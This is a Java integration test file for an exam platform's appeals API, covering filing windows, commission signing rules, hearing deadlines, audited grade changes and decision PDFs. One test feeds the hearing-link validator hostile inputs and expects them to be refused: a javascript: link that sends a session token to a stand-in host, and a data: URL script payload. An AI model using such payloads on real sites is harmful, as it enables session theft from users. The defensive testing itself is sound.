package kz.adal.casework;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import jakarta.inject.Inject;
import kz.adal.audit.AuditRows;
import kz.adal.platform.TimeSource;
import kz.adal.testing.Api;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

import java.math.BigDecimal;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;

import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.notNullValue;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Appeals through the API: the 48 hours, who signs, the hearing deadline, the audited grade change (001 §6.15.4–6.15.5). */
@QuarkusTest
class AppealApiTest {

    @Inject
    TimeSource time;

    @Inject
    AppealReportSection report;

    @Inject
    AppealRecordingHolds holds;

    @AfterEach
    void resetClock() {
        time.reset();
    }

    private static Map<String, Object> appeal(AppealGiven.Graded g, String reason) {
        return Map.of("attemptId", g.attemptId(), "reason", reason);
    }

    @Test
    void anAppealAfter48HoursIsRefusedWithTheReasonAndTheClosingTime() {
        AppealGiven.Graded g = AppealGiven.gradedAttempt("late", Duration.ZERO, new BigDecimal("55.00"), "D+");
        Instant closes = Instant.parse(g.student().api().get("/api/appeals/options").then().statusCode(200)
                .extract().jsonPath().getString("find { it.attemptId == '" + g.attemptId() + "' }.closesAt"));
        assertEquals(java.util.Set.of(kz.adal.media.RecordingHold.APPEAL), holds.holdsFor(g.attemptId()), "window open: held");
        time.advance(Duration.ofHours(48).plusSeconds(1));
        fresh(g).body(appeal(g, "Question 7 had two correct options")).post("/api/appeals").then()
                .statusCode(422)
                .body("code", equalTo("APPEAL_FILING_CLOSED"))
                .body("detail", containsString("48 hours"))
                .body("detail", containsString("001 §6.15.4"))
                .body("errors[0].closesAt", equalTo(closes.toString()));
        fresh(g).get("/api/appeals/mine").then().statusCode(200).body("size()", equalTo(0));
        // the window is closed and nothing was filed: the recordings are no longer held for an appeal
        assertTrue(holds.holdsFor(g.attemptId()).isEmpty());
        fresh(g).get("/api/appeals/options").then()
                .body("find { it.attemptId == '" + g.attemptId() + "' }.open", equalTo(false))
                .body("find { it.attemptId == '" + g.attemptId() + "' }.notOpenReason", equalTo("FILING_CLOSED"));
    }

    @Test
    void anAppealJustInsideTheWindowIsFiledAndReachesTheChair() {
        AppealGiven.Graded g = AppealGiven.gradedAttempt("intime", Duration.ofHours(47).plusMinutes(59), new BigDecimal("55.00"), "D+");
        AppealGiven.Commission c = AppealGiven.commission(g.examId());
        g.student().api().body(Map.of("attemptId", g.attemptId(), "reason", " ")).post("/api/appeals").then()
                .statusCode(400).body("code", equalTo("APPEAL_REASON_REQUIRED"));
        byte[] png = {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0};
        g.student().api().body(Map.of("attemptId", g.attemptId(), "reason", "see the screenshot", "attachmentName", "shot.png",
                        "attachmentBase64", java.util.Base64.getEncoder().encodeToString("<html>not an image</html>".getBytes())))
                .post("/api/appeals").then().statusCode(415).body("code", equalTo("DOCUMENT_TYPE"));
        g.student().api().get("/api/appeals/mine").then().body("size()", equalTo(0));
        String id = g.student().api().body(Map.of("attemptId", g.attemptId(), "reason", "Question 7 had two correct options",
                        "attachmentName", "shot.png", "attachmentBase64", java.util.Base64.getEncoder().encodeToString(png)))
                .post("/api/appeals").then()
                .statusCode(201).body("attachmentName", equalTo("shot.png")).body("state", equalTo("FILED")).body("deadlines.hearingDueOn", notNullValue())
                .body("evidenceLink", equalTo("/student/evidence.html?attempt=" + g.attemptId()))
                .extract().path("id");
        g.student().api().body(appeal(g, "again")).post("/api/appeals").then().statusCode(409).body("code", equalTo("APPEAL_EXISTS"));
        org.junit.jupiter.api.Assertions.assertArrayEquals(png, c.chair().api().get("/api/appeals/" + id + "/attachment").then()
                .statusCode(200).extract().asByteArray());
        c.chair().api().get("/api/appeals/commission").then().statusCode(200).body("id", hasItem(id));
        c.chair().api().get("/api/inbox").then().body("caseId", hasItem(id));
        // another student can't see it
        AppealGiven.Graded other = AppealGiven.gradedAttempt("other", Duration.ofHours(1), new BigDecimal("70"), "C+");
        other.student().api().get("/api/appeals/" + id).then().statusCode(404);
        Api.as("student").get("/api/appeals/commission").then().statusCode(200).body("id", org.hamcrest.Matchers.not(hasItem(id)));
    }

    @Test
    void theDeputySignsWhenTheChairIsAbsentAndAMemberNever() {
        AppealGiven.Graded g = AppealGiven.gradedAttempt("deputy", Duration.ofHours(2), new BigDecimal("48.00"), "FX");
        AppealGiven.Commission c = AppealGiven.commission(g.examId());
        String id = g.student().api().body(appeal(g, "The proctor stopped me wrongly")).post("/api/appeals").then().statusCode(201)
                .extract().path("id");
        String today = time.today().toString();
        Map<String, Object> hearing = Map.of("at", time.now().plusSeconds(600).toString(), "link", "https://meet.example/appeal");
        c.member().api().body(hearing).post("/api/appeals/" + id + "/hearing").then().statusCode(403);
        c.deputy().api().body(hearing).post("/api/appeals/" + id + "/hearing").then().statusCode(403)
                .body("detail", containsString("deputy only while the chair is absent"));
        // a link the student will open: only a safe https address (a javascript: link would run with their token)
        for (String bad : java.util.List.of("javascript:fetch('//x/'+sessionStorage.getItem('adal.token'))", "http://meet.example/appeal",
                "data:text/html,<script>alert(1)</script>")) {
            c.chair().api().body(Map.of("at", time.now().plusSeconds(600).toString(), "link", bad)).post("/api/appeals/" + id + "/hearing")
                    .then().statusCode(400).body("code", equalTo("APPEAL_HEARING_LINK_INVALID")).body("field", equalTo("link"))
                    .body("detail", containsString("https://"));
        }
        c.chair().api().body(hearing).post("/api/appeals/" + id + "/hearing").then().statusCode(200).body("state", equalTo("HEARING_SET"))
                .body("hearingLink", equalTo("https://meet.example/appeal"));
        // only the dean's office, the admin or the chair mark the chair absent
        c.member().api().body(Map.of("absent", true)).post("/api/appeal-commissions/" + c.id() + "/chair-absence").then().statusCode(403);
        Api.as("dean").body(Map.of("absent", true, "note", "on sick leave")).post("/api/appeal-commissions/" + c.id() + "/chair-absence")
                .then().statusCode(200).body("chairAbsent", equalTo(true)).body("signer.id", equalTo(c.deputy().id().toString()));
        Map<String, Object> reject = Map.of("decision", "REJECTED", "note", "The recording shows a second person in the room");
        // not before the hearing is held (001 §6.15.5)
        c.deputy().api().body(reject).post("/api/appeals/" + id + "/decision").then().statusCode(409)
                .body("code", equalTo("APPEAL_BEFORE_HEARING"));
        time.advance(Duration.ofMinutes(11));
        c.member().api().body(reject).post("/api/appeals/" + id + "/decision").then().statusCode(403);
        c.chair().api().body(reject).post("/api/appeals/" + id + "/decision").then().statusCode(403)
                .body("detail", containsString("deputy chair"));
        c.deputy().api().body(reject).post("/api/appeals/" + id + "/decision").then().statusCode(200)
                .body("decision", equalTo("REJECTED")).body("signedAs", equalTo("DEPUTY_CHAIR"))
                .body("currentGrade", equalTo("48.00% FX")).body("gradeChange", org.hamcrest.Matchers.nullValue());
        JsonPath mine = g.student().api().get("/api/appeals/mine").then().statusCode(200).extract().jsonPath();
        assertEquals("REJECTED", mine.getString("[0].decision"));
        g.student().api().get("/api/inbox").then().body("kind", hasItem("appeal.decided"));
        assertTrue(audited(g, "appeal.decided"));
        assertTrue(!audited(g, "attempt.grade-changed-on-appeal"), "a rejected appeal changes no grade");
        assertTrue(today.length() == 10);
    }

    @Test
    void aHearingAfterTheDeadlineIsRefused() {
        AppealGiven.Graded g = AppealGiven.gradedAttempt("hearing", Duration.ofHours(3), new BigDecimal("60.00"), "C-");
        AppealGiven.Commission c = AppealGiven.commission(g.examId());
        JsonPath filed = g.student().api().body(appeal(g, "Wrong key for question 3")).post("/api/appeals").then().statusCode(201)
                .extract().jsonPath();
        String id = filed.getString("id");
        LocalDate due = LocalDate.parse(filed.getString("deadlines.hearingDueOn"));
        Instant tooLate = due.plusDays(1).atTime(10, 0).atZone(TimeSource.ZONE).toInstant();
        c.chair().api().body(Map.of("at", tooLate.toString())).post("/api/appeals/" + id + "/hearing").then().statusCode(422)
                .body("code", equalTo("APPEAL_HEARING_LATE")).body("detail", containsString(due.toString()))
                .body("errors[0].hearingDueOn", equalTo(due.toString()));
        g.student().api().get("/api/appeals/" + id).then().body("state", equalTo("FILED")).body("hearingAt", org.hamcrest.Matchers.nullValue());
        Instant onTime = due.atTime(17, 0).atZone(TimeSource.ZONE).toInstant();
        c.chair().api().body(Map.of("at", onTime.toString())).post("/api/appeals/" + id + "/hearing").then().statusCode(200)
                .body("state", equalTo("HEARING_SET"));
    }

    @Test
    void theHearingDeadlineFollowsTheAdminCalendar() {
        LocalDate today = time.today();
        List<LocalDate> special = AppealGiven.nextFreeWeekdays(today, 2);
        LocalDate holiday = special.get(0);
        LocalDate dayOff = special.get(1);
        AppealGiven.Graded g = AppealGiven.gradedAttempt("calendar", Duration.ofHours(1), new BigDecimal("60.00"), "C-");
        String id = g.student().api().body(appeal(g, "Recount")).post("/api/appeals").then().statusCode(201).extract().path("id");
        LocalDate before = LocalDate.parse(g.student().api().get("/api/appeals/" + id).then().extract().path("deadlines.hearingDueOn"));
        try {
            Api.as("admin").body(AppealGiven.day(holiday, "HOLIDAY", "Test holiday")).post("/api/calendar/" + holiday.getYear() + "/days")
                    .then().statusCode(200);
            Api.as("admin").body(AppealGiven.day(dayOff, "DAY_OFF", "Moved day off (decree)")).post("/api/calendar/" + dayOff.getYear() + "/days")
                    .then().statusCode(200);
            LocalDate after = LocalDate.parse(g.student().api().get("/api/appeals/" + id).then().extract().path("deadlines.hearingDueOn"));
            // what Monday–Friday counting gives once the calendar's days off (with the two new ones) are taken out
            List<LocalDate> off = new java.util.ArrayList<>(List.of(holiday, dayOff));
            Api.as("admin").get("/api/calendar/" + today.getYear()).then().extract().jsonPath()
                    .getList("days.findAll { it.kind != 'WORKING_DAY' }.date", String.class).forEach(d -> off.add(LocalDate.parse(d)));
            assertEquals(AppealGiven.addWeekdays(today, 2, off), after);
            assertTrue(after.isAfter(before), before + " → " + after);
        } finally {
            Api.as("admin").delete("/api/calendar/" + holiday.getYear() + "/days/" + holiday).then().statusCode(200);
            Api.as("admin").delete("/api/calendar/" + dayOff.getYear() + "/days/" + dayOff).then().statusCode(200);
        }
    }

    @Test
    void anUpheldAppealChangesTheGradeOnlyThroughTheAuditedAction() {
        AppealGiven.Graded g = AppealGiven.gradedAttempt("upheld", Duration.ofHours(5), new BigDecimal("72.00"), "C+");
        AppealGiven.Commission c = AppealGiven.commission(g.examId());
        g.student().api().get("/api/attempts/" + g.attemptId() + "/result").then().statusCode(200).body("letter", equalTo("C+"));
        String id = g.student().api().body(appeal(g, "Question 12's key is wrong")).post("/api/appeals").then().statusCode(201)
                .extract().path("id");
        c.chair().api().body(Map.of("decision", "UPHELD", "note", "x")).post("/api/appeals/" + id + "/decision").then()
                .statusCode(409).body("code", equalTo("APPEAL_NO_HEARING"));
        g.student().api().get("/api/appeals/" + id + "/decision.pdf").then().statusCode(409).body("code", equalTo("APPEAL_NOT_DECIDED"));
        c.chair().api().body(Map.of("at", time.now().toString())).post("/api/appeals/" + id + "/hearing").then().statusCode(200);
        c.chair().api().body(Map.of("decision", "UPHELD", "note", "Key of question 12 was wrong")).post("/api/appeals/" + id + "/decision")
                .then().statusCode(400).body("code", equalTo("APPEAL_NEW_GRADE_REQUIRED"));
        c.chair().api().body(Map.of("decision", "REJECTED", "note", "no", "newPercent", 90)).post("/api/appeals/" + id + "/decision")
                .then().statusCode(400).body("code", equalTo("APPEAL_REJECTED_KEEPS_GRADE"));
        // nothing has changed the grade yet
        g.student().api().get("/api/attempts/" + g.attemptId() + "/result").then().body("letter", equalTo("C+"));
        assertTrue(!audited(g, "attempt.grade-changed-on-appeal"));
        c.chair().api().body(Map.of("decision", "UPHELD", "note", "Key of question 12 was wrong. " + kz.adal.testing.OfficialDocumentCheck.KAZAKH_PANGRAM,
                        "newPercent", 86))
                .post("/api/appeals/" + id + "/decision").then().statusCode(200)
                .body("decision", equalTo("UPHELD")).body("signedAs", equalTo("CHAIR"))
                .body("gradeChange.before", equalTo("72.00 C+")).body("gradeChange.after", equalTo("86.00 B+"));
        g.student().api().get("/api/attempts/" + g.attemptId() + "/result").then().statusCode(200)
                .body("percent", equalTo(86.0f)).body("letter", equalTo("B+"));
        c.chair().api().body(Map.of("decision", "UPHELD", "note", "again", "newPercent", 99)).post("/api/appeals/" + id + "/decision")
                .then().statusCode(409).body("code", equalTo("APPEAL_DECIDED"));
        assertTrue(audited(g, "attempt.grade-changed-on-appeal"));
        g.student().api().get("/api/inbox").then().body("find { it.kind == 'appeal.decided' }.body", containsString("86.00 B+"));
        Api.as("admin").get("/api/audit/verify?scope=" + g.examId()).then().statusCode(200).body("intact", equalTo(true));
        // the per-attempt report carries the appeal and the grade change
        var sections = report.sectionsFor(g.attemptId(), kz.adal.platform.OfficialDocuments.in("en"));
        assertEquals(1, sections.size());
        assertTrue(sections.get(0).entries().stream().anyMatch(e -> e.text().contains("72.00 C+ → 86.00 B+")), sections.toString());
        // the decision as a document the student receives and the commission signs, in kk and ru (issue 15)
        List<String> data = new java.util.ArrayList<>(List.of("Appealed test", "Appeal commission", "Question 12's key is wrong",
                "Key of question 12 was wrong", kz.adal.testing.OfficialDocumentCheck.KAZAKH_PANGRAM, "C+", "B+"));
        for (kz.adal.testing.Fixtures.Person p : List.of(g.student(), c.chair(), c.deputy(), c.member())) {
            data.add("Person " + p.login());
            data.add(p.login());
        }
        for (String lang : List.of("kk", "ru")) {
            byte[] pdf = g.student().api().get("/api/appeals/" + id + "/decision.pdf?lang=" + lang).then().statusCode(200).extract().asByteArray();
            String t = kz.adal.testing.OfficialDocumentCheck.check("appealDecision", pdf, lang, data);
            assertTrue(t.contains(lang.equals("kk") ? "Апелляциялық комиссияның шешімі" : "Решение апелляционной комиссии"), t);
            assertTrue(t.contains(lang.equals("kk") ? "Апелляция қанағаттандырылды" : "Апелляция удовлетворена"), t);
            // a table cell may wrap a long name across lines
            assertTrue(t.contains("72 C+") && t.contains("86 B+") && t.replaceAll("\\s", "").contains("Person" + c.member().login()), t);
            kz.adal.testing.OfficialDocumentCheck.assertKazakhLettersSurvive("appealDecision (" + lang + ")", t);
        }
        c.chair().api().get("/api/appeals/" + id + "/decision.pdf").then().statusCode(200);
        Api.as("teacher").get("/api/appeals/" + id + "/decision.pdf").then().statusCode(404);
    }

    @Test
    void anAppealNotHeardInTimeIsShownOverdueToTheChair() {
        AppealGiven.Graded g = AppealGiven.gradedAttempt("overdue", Duration.ofHours(1), new BigDecimal("60.00"), "C-");
        AppealGiven.Commission c = AppealGiven.commission(g.examId());
        String id = g.student().api().body(appeal(g, "Recount please")).post("/api/appeals").then().statusCode(201).extract().path("id");
        c.chair().api().get("/api/appeals/commission").then().body("find { it.id == '" + id + "' }.deadlines.hearingOverdue", equalTo(false));
        time.advance(Duration.ofDays(6));
        // the window closed long ago, but the appeal is undecided: the recordings stay held
        assertEquals(java.util.Set.of(kz.adal.media.RecordingHold.APPEAL), holds.holdsFor(g.attemptId()));
        var chair = io.restassured.RestAssured.given().auth().oauth2(Api.freshToken(c.chair().login(), Api.PASSWORD))
                .contentType(io.restassured.http.ContentType.JSON);
        chair.get("/api/appeals/commission").then().statusCode(200)
                .body("[0].id", equalTo(id))
                .body("[0].deadlines.hearingOverdue", equalTo(true))
                .body("[0].deadlines.resultOverdue", equalTo(true));
        // and a hearing now is past the deadline: refused
        chair.body(Map.of("at", time.now().toString())).post("/api/appeals/" + id + "/hearing").then().statusCode(422)
                .body("code", equalTo("APPEAL_HEARING_LATE"));
    }

    @Test
    void onlyTheDeanOrTheAdminSetUpCommissions() {
        AppealGiven.Graded g = AppealGiven.gradedAttempt("setup", Duration.ofHours(1), new BigDecimal("60.00"), "C-");
        Map<String, Object> body = Map.of("examId", g.examId(), "chairId", g.student().id(), "deputyId", g.student().id());
        Api.as("teacher").body(body).post("/api/appeal-commissions").then().statusCode(403);
        g.student().api().body(body).post("/api/appeal-commissions").then().statusCode(403);
        Api.as("dean").body(body).post("/api/appeal-commissions").then().statusCode(422).body("code", equalTo("COMMISSION_DEPUTY_IS_CHAIR"));
    }

    /** A token issued on the advanced clock (the cached one has expired there). */
    private static io.restassured.specification.RequestSpecification fresh(AppealGiven.Graded g) {
        return io.restassured.RestAssured.given().auth().oauth2(Api.freshToken(g.student().login(), Api.PASSWORD))
                .contentType(io.restassured.http.ContentType.JSON);
    }

    private static boolean audited(AppealGiven.Graded g, String action) {
        return AuditRows.countInScope(g.examId().toString(), action) > 0;
    }
}
